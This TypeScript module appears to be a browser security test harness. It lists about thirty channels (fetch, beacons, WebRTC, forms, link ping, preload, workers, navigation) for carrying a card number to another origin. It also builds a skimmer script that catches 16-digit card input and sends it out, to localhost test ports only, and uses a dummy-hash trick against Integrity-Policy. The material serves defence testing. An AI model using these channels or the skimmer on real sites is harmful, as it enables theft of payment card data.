/** Ways out: how a hostile script in the page can try to carry a card number to another origin. */

/** What a way is given. Each listens at a port of its own, so that whatever arrives there came by this way. */
export interface Target {
  readonly card: string
  readonly port: string
  /** An http address with the number in its query. */
  readonly address: string
  /** The script itself: the only file of the page's own origin that the hostile code is in. */
  readonly entry: string
}

/** Sent to the page as its own text, so nothing outside its braces exists there. */
export type WayOut = (target: Target) => unknown

export const WAYS_OUT: Readonly<Record<string, WayOut>> = {
  fetch: ({ address }) => fetch(address, { mode: 'no-cors' }),
  XMLHttpRequest: ({ address }) => {
    const call = new XMLHttpRequest()
    call.open('POST', address)
    call.send()
  },
  'navigator.sendBeacon': ({ address, card }) => navigator.sendBeacon(address, card),
  WebSocket: ({ address }) => new WebSocket(address.replace('http', 'ws')),
  EventSource: ({ address }) => new EventSource(address),
  WebTransport: ({ address }) => new WebTransport(address.replace('http', 'https')).ready,
  'WebRTC, its STUN server': async ({ port }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
    connection.createDataChannel('card')
    await connection.setLocalDescription(await connection.createOffer())
  },
  image: ({ address }) => {
    new Image().src = address
  },
  'script element': ({ address }) => {
    const script = document.createElement('script')
    script.src = address
    document.head.append(script)
  },
  'dynamic import': ({ address }) => import(address),
  'stylesheet link': ({ address }) => {
    const sheet = document.createElement('link')
    sheet.rel = 'stylesheet'
    sheet.href = address
    document.head.append(sheet)
  },
  'url() in a style rule': ({ address }) => {
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`body { background: url(${address}) }`)
    document.adoptedStyleSheets = [sheet]
  },
  'font face': ({ address }) => new FontFace('card', `url(${address})`).load(),
  'video element': ({ address }) => {
    const video = document.createElement('video')
    video.src = address
    document.body.append(video)
  },
  'object element': ({ address }) => {
    const object = document.createElement('object')
    object.data = address
    document.body.append(object)
  },
  frame: ({ address }) => {
    const frame = document.createElement('iframe')
    frame.src = address
    document.body.append(frame)
  },
  'frame with srcdoc': ({ address }) => {
    const frame = document.createElement('iframe')
    frame.srcdoc = `<img src="${address}">`
    document.body.append(frame)
  },
  'frame of a blob': ({ address }) => {
    const frame = document.createElement('iframe')
    frame.src = URL.createObjectURL(new Blob([`<img src="${address}">`], { type: 'text/html' }))
    document.body.append(frame)
  },
  'form, POST': ({ address }) => {
    const form = document.createElement('form')
    form.method = 'post'
    form.action = address
    document.body.append(form)
    form.submit()
  },
  'form, GET': ({ address, card }) => {
    const form = document.createElement('form')
    const field = document.createElement('input')
    form.action = address
    field.name = 'card'
    field.value = card
    form.append(field)
    document.body.append(form)
    form.submit()
  },
  'ping of a link': ({ address }) => {
    const anchor = document.createElement('a')
    anchor.href = '#'
    anchor.ping = address
    document.body.append(anchor)
    anchor.click()
  },
  'link prefetch': ({ address }) => {
    const link = document.createElement('link')
    link.rel = 'prefetch'
    link.href = address
    document.head.append(link)
  },
  // Any hash will do: with one, Integrity-Policy lets the request out.
  'link preload of a script': ({ address }) => {
    const link = document.createElement('link')
    link.rel = 'preload'
    link.as = 'script'
    link.crossOrigin = ''
    link.integrity = `sha384-${'A'.repeat(64)}`
    link.href = address
    document.head.append(link)
  },
  'link modulepreload': ({ address }) => {
    const link = document.createElement('link')
    link.rel = 'modulepreload'
    link.as = 'script'
    link.crossOrigin = ''
    link.integrity = `sha384-${'A'.repeat(64)}`
    link.href = address
    document.head.append(link)
  },
  'audio worklet': ({ address }) => new AudioContext().audioWorklet.addModule(address),
  'worker with importScripts': ({ address }) =>
    new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(address)})`]))),
  'service worker': ({ address, entry }) =>
    navigator.serviceWorker.register(`${entry}?to=${encodeURIComponent(address)}`, { type: 'module' }),
  'meta refresh': ({ address }) => {
    const meta = document.createElement('meta')
    meta.httpEquiv = 'refresh'
    meta.content = `0;url=${address}`
    document.head.append(meta)
  },
  'top navigation': ({ address }) => {
    window.location.href = address
  },
  'window.open': ({ address }) => window.open(address),
}

/**
 * The hostile code, to stand before the entry script's own. When sixteen digits are in the card field it tries the way that
 * the address names. In a worker of its own text it calls the address it was given.
 */
export const hostileScript = (ways: Readonly<Record<string, WayOut>>): string => `{
  const ways = { ${Object.entries(ways)
    .map(([name, way]) => `${JSON.stringify(name)}: ${way.toString()}`)
    .join(',\n')} }
  if (typeof document === 'undefined') fetch(new URL(location.href).searchParams.get('to'), { mode: 'no-cors' })
  else {
    const query = new URLSearchParams(location.search)
    let isTried = false
    document.addEventListener('input', async ({ target }) => {
      const card = String(target.value).replaceAll(/\\D/g, '')
      if (isTried || card.length !== 16) return
      isTried = true
      const port = query.get('port')
      const address = 'http://127.0.0.1:' + port + '/?card=' + card
      try {
        await ways[query.get('way')]({ card, port, address, entry: import.meta.url })
      } catch {}
      document.documentElement.dataset.tried = ''
    }, true)
    document.documentElement.dataset.hostile = ''
  }
}
`
